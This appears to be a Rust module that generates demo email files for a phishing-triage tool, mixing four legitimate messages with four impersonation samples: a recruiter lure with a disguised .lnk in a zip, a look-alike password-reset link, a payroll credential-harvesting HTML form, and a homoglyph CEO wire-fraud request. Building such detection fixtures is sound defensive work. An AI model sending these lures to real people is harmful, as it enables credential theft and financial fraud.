//! The mail part of the scenario: a few messages that impersonate the demo organisation
//! (look-alike domains of `example-hi.com` / `example-hi.co.jp`, a recruiter lure with an
//! attachment, as in the case DESIGN.md describes) next to legitimate mail of the same
//! organisation, written to `DIR/mail/` as `.eml` files. `sekisho mail scan` should flag
//! every `phish-*` file and none of the `legit-*` ones.
//!
//! The messages are fixed text (no seed): they exist to show the triage, not to measure it.

use crate::{DemoError, io_err};
use std::path::Path;

/// Subfolder of the demo directory that holds the messages.
pub const MAIL_DIR: &str = "mail";
/// File-name prefix of the impersonation messages.
pub const PHISH_PREFIX: &str = "phish-";
/// File-name prefix of the legitimate messages.
pub const LEGIT_PREFIX: &str = "legit-";

/// Writes the messages under `out_dir/mail/`; returns how many were written.
pub fn generate(out_dir: &Path) -> Result<usize, DemoError> {
    let dir = out_dir.join(MAIL_DIR);
    std::fs::create_dir_all(&dir).map_err(io_err(&dir))?;
    let msgs = messages();
    for (name, body) in &msgs {
        let path = dir.join(name);
        std::fs::write(&path, body).map_err(io_err(&path))?;
    }
    Ok(msgs.len())
}

const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/// Standard base64 with 76-character lines (for the attachments).
fn base64(data: &[u8]) -> String {
    let mut out = String::new();
    for (i, chunk) in data.chunks(3).enumerate() {
        if i > 0 && i % 19 == 0 {
            out.push_str("\r\n");
        }
        let b = [
            chunk.first().copied().unwrap_or(0),
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(char::from(B64[((n >> (18 - 6 * k)) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// A minimal ZIP holding one stored member (enough for the scanner to list it).
fn zip_with(member: &str, content: &[u8]) -> Vec<u8> {
    let mut z = b"PK\x03\x04".to_vec();
    let len = u32::try_from(content.len()).unwrap_or(0).to_le_bytes();
    let nlen = u16::try_from(member.len()).unwrap_or(0).to_le_bytes();
    z.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    z.extend_from_slice(&len);
    z.extend_from_slice(&len);
    z.extend_from_slice(&nlen);
    z.extend_from_slice(&[0, 0]);
    z.extend_from_slice(member.as_bytes());
    z.extend_from_slice(content);
    z
}

fn messages() -> Vec<(String, String)> {
    let lnk = [0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0];
    let zip = base64(&zip_with("Job_Description_EHI_Houston.pdf.lnk", &lnk));
    let pdf = base64(b"%PDF-1.4\n% delivery schedule\n%%EOF\n");
    let html_att = base64(
        b"<html><body><form action=\"https://payroll-example-hi.web.app/collect\" method=\"post\">\
<p>Example Heavy Industries payroll portal</p><input name=\"user\"><input type=\"password\" name=\"pw\">\
<button>Sign in</button></form></body></html>",
    );
    vec![
        (
            format!("{LEGIT_PREFIX}01-it-maintenance.eml"),
            "Return-Path: <it-helpdesk@example-hi.co.jp>\r\n\
Authentication-Results: mx.example-hi.co.jp; spf=pass smtp.mailfrom=example-hi.co.jp; dkim=pass header.d=example-hi.co.jp; dmarc=pass header.from=example-hi.co.jp\r\n\
From: IT Service Desk <it-helpdesk@example-hi.co.jp>\r\n\
To: all-staff@example-hi.co.jp\r\n\
Subject: Planned maintenance of the ERP system on Saturday\r\n\
Date: Mon, 08 Jul 2024 09:00:00 +0900\r\n\
Message-ID: <it-0708@example-hi.co.jp>\r\n\
MIME-Version: 1.0\r\n\
Content-Type: text/plain; charset=utf-8\r\n\r\n\
Dear colleagues,\r\n\r\nThe ERP system will be unavailable on Saturday from 22:00 to 02:00 JST for planned maintenance.\r\n\
Details are on the intranet: https://intranet.example-hi.co.jp/it/maintenance\r\n\r\nIT Service Desk, Tokyo\r\n"
                .to_string(),
        ),
        (
            format!("{LEGIT_PREFIX}02-hr-newsletter.eml"),
            "Return-Path: <hr@example-hi.com>\r\n\
Authentication-Results: mx.example-hi.co.jp; spf=pass smtp.mailfrom=example-hi.com; dmarc=pass header.from=example-hi.com\r\n\
From: EHI Human Resources <hr@example-hi.com>\r\n\
To: us-staff@example-hi.com\r\n\
Subject: July newsletter from Houston\r\n\
Date: Tue, 09 Jul 2024 08:30:00 -0500\r\n\
MIME-Version: 1.0\r\n\
Content-Type: text/html; charset=utf-8\r\n\r\n\
<html><body><p>Welcome to the ten colleagues who joined the Houston office this month.</p>\
<p>Our open roles are listed on <a href=\"https://careers.example-hi.com/\">careers.example-hi.com</a>.</p>\
<p>Example Heavy Industries, Human Resources</p></body></html>\r\n"
                .to_string(),
        ),
        (
            format!("{LEGIT_PREFIX}03-supplier-schedule.eml"),
            format!(
                "Return-Path: <orders@steel-supplier.example>\r\n\
From: Orders <orders@steel-supplier.example>\r\n\
To: purchasing@example-hi.co.jp\r\n\
Subject: Schedule for the August order\r\n\
Date: Wed, 10 Jul 2024 14:00:00 +0700\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"sched\"\r\n\r\n\
--sched\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHello, please find our schedule for the August order attached.\r\nBest regards, Orders team\r\n\
--sched\r\nContent-Type: application/pdf; name=\"schedule-august.pdf\"\r\nContent-Disposition: attachment; filename=\"schedule-august.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdf}\r\n--sched--\r\n"
            ),
        ),
        (
            format!("{LEGIT_PREFIX}04-bangkok-colleague.eml"),
            "Return-Path: <somchai.k@th.example-hi.com>\r\n\
From: Somchai K <somchai.k@th.example-hi.com>\r\n\
To: kenji.s@example-hi.co.jp\r\n\
Subject: Re: file server quota in Bangkok\r\n\
Date: Thu, 11 Jul 2024 10:15:00 +0700\r\n\
MIME-Version: 1.0\r\n\
Content-Type: text/plain; charset=utf-8\r\n\r\n\
Hi Kenji, thanks, the quota change on th-fs01 works. Regards, Somchai\r\n"
                .to_string(),
        ),
        (
            format!("{PHISH_PREFIX}01-recruiter-lure.eml"),
            format!(
                "Return-Path: <bounce@example-hi-careers.com>\r\n\
Authentication-Results: mx.google.com; spf=pass smtp.mailfrom=example-hi-careers.com; dkim=pass header.d=example-hi-careers.com; dmarc=pass header.from=example-hi-careers.com\r\n\
From: Example Heavy Industries Talent Acquisition <recruiting@example-hi-careers.com>\r\n\
Reply-To: ehi.hr.usa@gmail.com\r\n\
To: candidate@mail.example\r\n\
Subject: Job offer: Senior Process Engineer, Houston\r\n\
Date: Fri, 12 Jul 2024 07:45:00 -0500\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"offer\"\r\n\r\n\
--offer\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
Dear candidate,\r\n\r\nFollowing your interview, we are pleased to extend a job offer for the position of Senior Process Engineer in our Houston office.\r\n\
Please review the job description and the salary details in the attached file and confirm your starting date.\r\n\r\nHR Department, Example Heavy Industries\r\n\
--offer\r\nContent-Type: application/zip; name=\"Job_Description_EHI.zip\"\r\nContent-Disposition: attachment; filename=\"Job_Description_EHI.zip\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{zip}\r\n--offer--\r\n"
            ),
        ),
        (
            format!("{PHISH_PREFIX}02-lookalike-password.eml"),
            "Return-Path: <it-support@examp1e-hi.com>\r\n\
Authentication-Results: mx.example-hi.co.jp; spf=pass smtp.mailfrom=examp1e-hi.com; dmarc=pass header.from=examp1e-hi.com\r\n\
From: EHI IT Support <it-support@examp1e-hi.com>\r\n\
To: kenji.s@example-hi.co.jp\r\n\
Subject: Your mailbox password expires today\r\n\
Date: Mon, 15 Jul 2024 06:00:00 +0000\r\n\
MIME-Version: 1.0\r\n\
Content-Type: text/html; charset=utf-8\r\n\r\n\
<html><body><p>Your password will expire in 24 hours. To keep your mailbox, verify your account now:</p>\
<p><a href=\"https://login.examp1e-hi.com/owa/\">https://login.example-hi.co.jp/owa</a></p></body></html>\r\n"
                .to_string(),
        ),
        (
            format!("{PHISH_PREFIX}03-payroll-other-tld.eml"),
            format!(
                "Return-Path: <payroll@example-hi.co>\r\n\
From: Example Heavy Industries Payroll <payroll@example-hi.co>\r\n\
To: somchai.k@th.example-hi.com\r\n\
Subject: Action required: update your payroll details\r\n\
Date: Tue, 16 Jul 2024 03:00:00 +0000\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"pay\"\r\n\r\n\
--pay\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlease confirm your bank details before Friday using the attached form.\r\n\
--pay\r\nContent-Type: text/html; name=\"Payroll_Update.html\"\r\nContent-Disposition: attachment; filename=\"Payroll_Update.html\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{html_att}\r\n--pay--\r\n"
            ),
        ),
        (
            format!("{PHISH_PREFIX}04-ceo-spoof.eml"),
            "Return-Path: <mailer@bulk-sender.example>\r\n\
Authentication-Results: mx.example-hi.co.jp; spf=fail smtp.mailfrom=bulk-sender.example; dkim=none; dmarc=fail action=quarantine header.from=example-hi.com; compauth=fail reason=000\r\n\
From: EHI CEO <ceo@example-hi.com>\r\n\
Reply-To: ceo.office@ex\u{430}mple-hi.com\r\n\
To: finance@example-hi.co.jp\r\n\
Subject: Urgent wire transfer before noon\r\n\
Date: Wed, 17 Jul 2024 01:00:00 +0000\r\n\
MIME-Version: 1.0\r\n\
Content-Type: text/plain; charset=utf-8\r\n\r\n\
I need a wire transfer done immediately for a confidential acquisition. Reply to me only.\r\n"
                .to_string(),
        ),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_matches_rfc_4648_vectors() {
        assert_eq!(base64(b"foobar"), "Zm9vYmFy");
        assert_eq!(base64(b"fo"), "Zm8=");
        assert_eq!(base64(b"f"), "Zg==");
    }

    #[test]
    fn writes_both_kinds() {
        let m = messages();
        assert_eq!(
            m.iter()
                .filter(|(n, _)| n.starts_with(PHISH_PREFIX))
                .count(),
            4
        );
        assert_eq!(
            m.iter()
                .filter(|(n, _)| n.starts_with(LEGIT_PREFIX))
                .count(),
            4
        );
    }
}
